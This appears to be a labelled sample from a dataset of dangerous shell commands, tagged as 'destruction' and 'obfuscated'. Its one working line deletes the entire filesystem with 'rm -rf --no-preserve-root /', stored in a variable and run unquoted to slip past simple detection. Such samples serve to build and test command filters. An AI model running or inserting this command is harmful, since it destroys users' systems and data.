# description: Stores the full rm -rf command in one variable and runs it unquoted.
# family: destruction
# obfuscated: yes
cmd="rm -rf --no-preserve-root /"
$cmd
